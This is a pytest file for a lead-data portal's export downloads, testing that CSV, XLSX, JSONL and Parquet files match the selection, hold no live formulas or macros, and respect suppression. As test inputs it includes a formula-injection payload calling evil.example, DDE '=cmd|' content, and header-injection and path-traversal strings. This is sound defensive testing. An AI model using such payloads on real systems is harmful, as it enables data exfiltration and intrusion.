"""Downloads (trials E1, E3, E8): exactly what is selected, nothing live in it, never out of date, written down."""

import csv
import json
import re
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from datetime import date
from hashlib import sha256
from io import BytesIO, StringIO
from pathlib import Path
from typing import Any

import anyio
import pyarrow.parquet as pq
import pytest
from portal import Journal, page_over, published
from starlette.requests import ClientDisconnect, Request
from test_layouts import PAYLOADS, is_live

from pipelines.home import Home
from pipelines.portal import downloads
from pipelines.portal.downloads import WAYS, ahead, pack
from pipelines.portal.opened import Opened
from pipelines.portal.sending import Sent, attachment
from pipelines.release import layouts
from pipelines.suppression.book import Book
from pipelines.suppression.entries import Entry

SHARED = Path(__file__).parents[2] / "shared" / "hostile" / "csv" / "csv_injection.json"
ASKED = {
    "everything": "",
    "a ring": "ring=problem",
    "two rings": "ring=problem&ring=outside",
    "a place nobody knows": "country=%3F",
    "a list": "list=customers.csv",
    "a lead of an organization, not its colleague": "channel=Trade+fair",
    "both": "ring=problem&channel=%3F",
    "a search": "search=crane",
    "nobody": "search=nobody+is+called+so",
}
CHOSEN = {
    "everything": "true",
    "a ring": "ring = 'problem'",
    "two rings": "ring in ('problem', 'outside')",
    "a place nobody knows": "organization_country is null",
    "a list": "list = 'customers.csv'",
    "a lead of an organization, not its colleague": "channel = 'Trade fair'",
    "both": "ring = 'problem' and channel is null",
    "a search": "organization_name ilike '%crane%' or organization_domain ilike '%crane%'",
    "nobody": "false",
}


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Home]:
    with published(tmp_path_factory.mktemp("downloads") / "home") as publish:
        yield publish()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Home]:
    """Formulas wherever a lead list or a web page has text."""
    texts = "company first_name last_name email job_title phone city channel campaign".split()
    payloads = [*PAYLOADS, *(json.loads(SHARED.read_text("utf-8")) if SHARED.exists() else ())]
    people = [{**dict.fromkeys(texts, each), "domain": f"p{number}.example"} for number, each in enumerate(payloads)]
    stated = "name description street city region postcode country phone linkedin industry mentions".split()
    facts = {f"p{number}.example": [(name, each) for name in stated] for number, each in enumerate(payloads)}
    with published(tmp_path_factory.mktemp("hostile") / "home", people, facts) as publish:
        yield publish()


def rows_of(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(StringIO(content.decode(), newline="")))


def wanted(home: Home, condition: str) -> set[str]:
    with Opened(home).reading() as release, release.reader() as reader:
        return {row["lead_id"] for row in reader.rows(f"select lead_id from mart.lead where {condition}")}  # noqa: S608 - ours


def held(way: str, content: bytes) -> list[str]:
    """Return the leads in a file."""
    if way.endswith(".jsonl"):
        return [json.loads(line)["lead_id"] for line in content.decode().splitlines()]
    if way.endswith(".parquet"):
        return [str(each) for each in pq.read_table(BytesIO(content)).column("lead_id").to_pylist()]
    if way.endswith(".xlsx"):
        with zipfile.ZipFile(BytesIO(content)) as archive:
            return re.findall(r"lead_[0-9a-f]{16}", archive.read("xl/worksheets/sheet1.xml").decode())
    return [row["lead_id"] for row in rows_of(content)]


@pytest.mark.parametrize("asked", ASKED)
@pytest.mark.parametrize("way", ["leads.csv", "leads.jsonl", "leads.parquet", "leads.xlsx", "salesforce-leads.csv"])
def test_a_file_holds_exactly_what_is_selected(home: Home, way: str, asked: str) -> None:
    journal = Journal()
    answer = page_over(home, journal).get(f"/download/{way}?{ASKED[asked]}")
    found = held(way, answer.content)
    assert answer.status_code == 200 and sorted(found) == sorted(wanted(home, CHOSEN[asked]))
    assert [each["rows"] for each in journal.notes] == [len(found)]


@pytest.mark.parametrize("asked", ASKED)
def test_crm_files_hold_the_organizations_and_people_of_the_selection(home: Home, asked: str) -> None:
    page = page_over(home)
    companies, contacts = (
        rows_of(page.get(f"/download/hubspot-{which}.csv?{ASKED[asked]}").content) for which in ("companies", "contacts")
    )
    with Opened(home).reading() as release, release.reader() as reader:
        chosen = reader.rows(f"select * from mart.lead where {CHOSEN[asked]}")  # noqa: S608 - ours
    assert {row["organization_id"] for row in companies} == {row["organization_id"] for row in chosen}
    people = {row["lead_id"] for row in chosen if row["first_name"] or row["last_name"] or row["email"]}
    assert sorted(row["lead_id"] for row in contacts) == sorted(people)


def test_what_differs_from_the_lead_list_is_told_in_every_layout(home: Home) -> None:
    page = page_over(home)
    said = "city: list says Bremen, we say Wien"
    for way in WAYS:
        content = page.get(f"/download/{way}?ring=problem").content
        if way.endswith(".parquet"):
            content = str(pq.read_table(BytesIO(content)).column("differs_from_lead_list").to_pylist()).encode()
        if way.endswith(".xlsx"):
            with zipfile.ZipFile(BytesIO(content)) as archive:
                content = b"".join(archive.read(name) for name in archive.namelist())
        assert said.encode() in content, way


@pytest.mark.parametrize("way", [way for way in WAYS if way.endswith(".csv")])
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_e1_no_formula_lives_in_a_csv_whatever_separates_cells(hostile: Home, way: str, separator: str) -> None:
    content = page_over(hostile).get(f"/download/{way}").content.decode()
    cells = [cell for row in csv.reader(StringIO(content, newline=""), delimiter=separator) for cell in row]
    assert len(cells) > 100
    assert [cell for cell in cells if is_live(cell)] == []


def test_e3_a_spreadsheet_has_no_formula_no_link_no_macro(hostile: Home) -> None:
    with zipfile.ZipFile(BytesIO(page_over(hostile).get("/download/leads.xlsx").content)) as archive:
        names, content = archive.namelist(), b"".join(archive.read(name) for name in archive.namelist())
    assert not re.search(rb"<f[ >]|hyperlink |externalLink|vbaProject", content) and b"=cmd|" in content
    assert not [name for name in names if "vba" in name or "external" in name]


def test_raw_formats_keep_the_raw_value(hostile: Home) -> None:
    page = page_over(hostile)
    lines = [json.loads(line) for line in page.get("/download/leads.jsonl").content.decode().split("\n") if line]
    table = pq.read_table(BytesIO(page.get("/download/leads.parquet").content))
    assert set(PAYLOADS) <= {row["company"] for row in lines} and set(PAYLOADS) <= set(table.column("company").to_pylist())


def test_a_formula_in_a_filter_is_found_and_is_none_in_the_name_of_the_file(hostile: Home) -> None:
    answer = page_over(hostile).get("/download/leads.csv", params={"channel": '=HYPERLINK("http://evil.example/?"&A1)'})
    assert len(rows_of(answer.content)) == 1
    assert answer.headers["content-disposition"] == "attachment; filename=\"leads-one.csv\"; filename*=UTF-8''leads-one.csv"


@pytest.mark.parametrize("name", ["a\r\nX: y", 'a"b', "ü/../=1", "a;b", "'; rm", "x" * 3])
def test_no_name_leaves_its_header(name: str) -> None:
    told = attachment(name)
    assert re.fullmatch(r"attachment; filename=\"[A-Za-z0-9._-]+\"; filename\*=UTF-8''[A-Za-z0-9._~%-]+", told)


def test_e8_nothing_is_handed_out_while_somebody_who_is_in_it_may_be_suppressed(home: Home, tmp_path: Path) -> None:
    with published(tmp_path / "home") as publish:
        house = publish("one")
        book, journal = Book(house.suppression, house.suppression_key), Journal()
        page = page_over(house, journal)
        assert page.get("/download/leads.csv").status_code == 200
        book.add([Entry("email", "ada@tin-anchor.example")], "by hand", date(2026, 3, 1))
        for way in WAYS:
            answer = page.get(f"/download/{way}")
            assert answer.status_code == 409 and "Somebody was suppressed since" in answer.text and "run again" in answer.text
            assert "ada@" not in answer.text.lower()
        assert len(journal.notes) == 1
        with Opened(house).reading() as release, release.reader() as reader:
            keys = [row["organization_id"] for row in reader.rows("select organization_id from mart.organization")]
        shown = "".join(page.get(path).text for path in ("/", "/organizations", *(f"/organizations/{key}" for key in keys)))
        assert "ada@" not in shown and "Brandt" not in shown and "asked to be left out" in shown and "/download/" not in shown
        publish("two", suppression=book.version)
        assert page.get("/download/leads.csv").status_code == 200
        assert journal.notes[-1]["suppression"] == book.version and journal.notes[-1]["release"] == "two"


def test_every_download_is_written_down_with_the_hash_of_what_went_out(home: Home) -> None:
    for way in WAYS:
        journal = Journal()
        content = page_over(home, journal).get(f"/download/{way}?ring=problem").content
        (note,) = journal.notes
        assert note["what"] == way and note["sha256"] == sha256(content).hexdigest() and note["whole"] is True
        assert (note["release"], note["suppression"], note["selection"]) == ("one", "", {"ring": ["problem"]})
        assert len(note["ids"]) == 3, "one organization and its two leads"


def test_the_same_selection_gives_the_same_bytes(home: Home) -> None:
    page = page_over(home)
    for way in WAYS:
        assert page.get(f"/download/{way}").content == page.get(f"/download/{way}").content


def test_how_rows_are_paged_does_not_show(home: Home, monkeypatch: pytest.MonkeyPatch) -> None:
    whole = {way: page_over(home).get(f"/download/{way}").content for way in WAYS if not way.endswith(".parquet")}
    monkeypatch.setattr(layouts, "PAGE", 2)
    monkeypatch.setattr(layouts, "RANGE", 2)
    monkeypatch.setattr(downloads, "PIECE_BYTES", 100)
    assert whole == {way: page_over(home).get(f"/download/{way}").content for way in whole}


@pytest.mark.parametrize(("way", "files"), [("salesforce-leads.csv", 3), ("leads.xlsx", 3), ("hubspot-companies.csv", 2)])
def test_more_than_a_file_takes_comes_as_an_archive_of_several(
    home: Home, monkeypatch: pytest.MonkeyPatch, way: str, files: int
) -> None:
    monkeypatch.setattr(downloads, "WAYS", {way: replace(WAYS[way], layout=replace(WAYS[way].layout, most_rows=3))})
    journal = Journal()
    answer = page_over(home, journal).get(f"/download/{way}")
    assert answer.headers["content-type"] == "application/zip" and ".zip" in answer.headers["content-disposition"]
    with zipfile.ZipFile(BytesIO(answer.content)) as archive:
        assert len(archive.namelist()) == files and archive.testzip() is None
        kept = [row for name in archive.namelist() if name.endswith(".csv") for row in rows_of(archive.read(name))]
    assert journal.notes[0]["rows"] == {"hubspot-companies.csv": 4}.get(way, 5)
    if kept:
        assert len(kept) == journal.notes[0]["rows"]
    again = page_over(home).get(f"/download/{way}").content
    assert again == answer.content


@pytest.mark.parametrize("asked", ["ring=middle", "colour=red", "sort=1", "page=x", "search=" + "x" * 101])
def test_what_cannot_be_selected_is_not_downloaded(home: Home, asked: str) -> None:
    journal = Journal()
    assert page_over(home, journal).get(f"/download/leads.csv?{asked}").status_code == 400
    assert journal.notes == []


@pytest.mark.parametrize("name", ["secrets", "leads.exe", "..%2fmanifest.json", "mart.lead", "LEADS.CSV", "leads.csv%00"])
def test_only_files_that_are_named_here_are_there(home: Home, name: str) -> None:
    answer = page_over(home).get(f"/download/{name}")
    assert answer.status_code == 404 and name not in answer.text


def test_a_download_is_never_only_announced(home: Home) -> None:
    journal = Journal()
    assert page_over(home, journal).head("/download/leads.csv").status_code == 405
    assert journal.notes == []


def test_a_download_that_breaks_off_is_written_down_as_such_and_lets_go_of_the_release(home: Home) -> None:
    opened, journal, sent = Opened(home), Journal(), list[bytes]()
    parcel = pack(opened, "leads.csv", [])
    request = Request({"type": "http", "method": "GET", "path": "/", "headers": [], "state": {"journal": journal}})

    async def gone(message: Any) -> None:
        sent.append(message.get("body", b""))
        if len(sent) > 1:
            raise OSError("the browser is gone")

    async def broken_off() -> None:
        with pytest.raises(ClientDisconnect):
            await Sent(request, parcel)({"type": "http", "asgi": {"spec_version": "2.4"}}, anyio.sleep_forever, gone)

    anyio.run(broken_off)
    (note,) = journal.notes
    assert note["whole"] is False and note["sha256"] == sha256(b"".join(sent)).hexdigest()
    assert parcel.release.readers == 0


def test_what_comes_next_is_worked_out_while_one_is_at_work_and_trouble_comes_through() -> None:
    begun: list[int] = []

    def pages() -> Iterator[int]:
        for number in range(1, 4):
            begun.append(number)
            yield number
        raise OSError("no more")

    got = []
    with pytest.raises(OSError, match="no more"):
        for each in ahead(pages()):
            got.append(each)  # noqa: PERF402 - the trouble comes after the last
    assert got == [1, 2, 3]
    first = ahead(iter([1, 2, 3]))
    assert next(first) == 1
    first.close()
